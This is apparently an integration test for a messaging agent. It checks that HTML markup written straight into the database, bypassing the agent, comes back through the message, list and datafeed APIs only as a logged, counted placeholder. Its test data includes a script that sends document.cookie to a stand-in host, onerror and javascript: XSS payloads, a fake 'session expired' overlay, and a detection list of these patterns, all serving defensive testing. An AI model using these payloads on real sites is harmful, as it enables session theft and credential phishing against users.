import { readFileSync } from "node:fs";
import { join } from "node:path";
import { newSymphonyId } from "@symphony/kit";
import { Event } from "@symphony/proto/events/v1/events";
import { describe, expect, it } from "vitest";
import { encryptMessage } from "../../services/agent/src/envelope.js";
import { createFeed, readUntil } from "./feeds.js";
import { authHeaders, mesh, newBot, newRoom, raw, type TestBot } from "./harness.js";
import { contentKey, query } from "./km.js";

const PML = (inner: string) => `<div data-format="PresentationML" data-version="2.0">${inner}</div>`;
const FORBIDDEN = [
  PML("hi<script>fetch('https://x.io/?'+document.cookie)</script>"),
  PML('<img src="https://x.io/none.png" onerror="alert(1)"/>'),
  PML('<a href="javascript:alert(1)">your invoice</a>'),
  PML('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">Session expired, log in again</div>'),
];
const TELLTALES = ["<script", "onerror", "javascript:", "position:fixed"];
const hasTelltale = (text: string) => TELLTALES.some((t) => text.includes(t));

/**
 * Writes a message straight into the pod's tables, as a restored backup or a writer bypassing the
 * agent would: a valid envelope sealed with the stream's key as the key manager releases it to the
 * member, the message row and the MESSAGESENT event the relay publishes to every member's feed.
 */
async function storeBehindTheAgent(sender: TestBot, streamId: string, memberIds: number[], presentationMl: string): Promise<string> {
  const { rotationId, key } = await contentKey(sender.bot, streamId);
  const messageId = newSymphonyId();
  const ciphertext = encryptMessage({ rotationId, key }, streamId, messageId, { presentationMl, entityJson: "{}" });
  const now = Date.now();
  const event = Event.fromPartial({ id: newSymphonyId(), type: "MESSAGESENT", timestamp: now, streamId, streamType: "ROOM", initiatorUserId: sender.userId, messageSent: { messageId, ciphertext } });
  const schema = `"${mesh().schemaPrefix}_pod"`;
  await query(
    `with m as (insert into ${schema}.messages (id, stream_id, sender_id, created_at, ciphertext) values ($1, $2, $3, $4, $5) returning id)
     insert into ${schema}.outbox (event_id, stream_id, payload, created_at, recipients) select $6, $2, $7, $4, $8 from m`,
    [messageId, streamId, sender.userId, now, ciphertext, event.id, Buffer.from(Event.encode(event).finish()), memberIds],
  );
  return messageId;
}

async function withheldCount(): Promise<number> {
  const text = await (await fetch(mesh().metricsUrls.agent)).text();
  return [...text.matchAll(/^symphony_agent_messages_withheld_total(?:\{[^}]*\})? (\S+)$/gm)].reduce((sum, m) => sum + Number(m[1]), 0);
}

describe("markup stored behind the agent's back", () => {
  it("is never returned by GET message, list or the v5 datafeed: a placeholder stands in, logged and counted without content", async () => {
    const alice = await newBot("alice");
    const bob = await newBot("bob");
    const roomId = await newRoom(alice.bot, [bob]);
    const feedId = await createFeed(bob);
    const before = await withheldCount();

    const forged: string[] = [];
    for (const markup of FORBIDDEN) forged.push(await storeBehindTheAgent(alice, roomId, [alice.userId, bob.userId], markup));
    const control = await alice.bot.sendMessage(roomId, '<messageML><b style="color:red">still fine</b></messageML>');

    for (const messageId of forged) {
      const res = await raw("GET", `/agent/v1/message/${messageId}`, { headers: authHeaders(bob.bot) });
      expect(res.status).toBe(200);
      const message = (res.body as { message: string }).message;
      expect(hasTelltale(res.text), res.text).toBe(false);
      expect(message).toContain("could not be displayed safely");
    }

    const list = await raw("GET", `/agent/v4/stream/${roomId}/message?since=0`, { headers: authHeaders(bob.bot) });
    expect(list.status).toBe(200);
    const listed = list.body as { messageId: string; message: string }[];
    expect(listed.map((m) => m.messageId)).toEqual(expect.arrayContaining([...forged, control.messageId]));
    expect(hasTelltale(list.text), list.text).toBe(false);
    expect(listed.find((m) => m.messageId === control.messageId)?.message).toBe(PML('<b style="color:red">still fine</b>'));

    const events = await readUntil(bob, feedId, 0, 20_000, (es) => [...forged, control.messageId].every((id) => es.some((e) => e.messageId === id)));
    const delivered = events.filter((e) => forged.includes(e.messageId ?? ""));
    expect(delivered).toHaveLength(forged.length);
    for (const e of delivered) expect(JSON.stringify(e.payload)).toContain("could not be displayed safely");
    expect(hasTelltale(JSON.stringify(events))).toBe(false);

    // Three reads of each forged message: GET, list and the feed.
    await expect.poll(withheldCount, { timeout: 10_000 }).toBeGreaterThanOrEqual(before + 3 * forged.length);
    const lines = readFileSync(join(mesh().logDir, "agent.log"), "utf8")
      .split("\n")
      .filter((l) => l.includes("decrypted message withheld") && forged.some((id) => l.includes(id)));
    expect(lines.length).toBeGreaterThanOrEqual(3 * forged.length);
    for (const line of lines) expect(hasTelltale(line), line).toBe(false);
  });
});
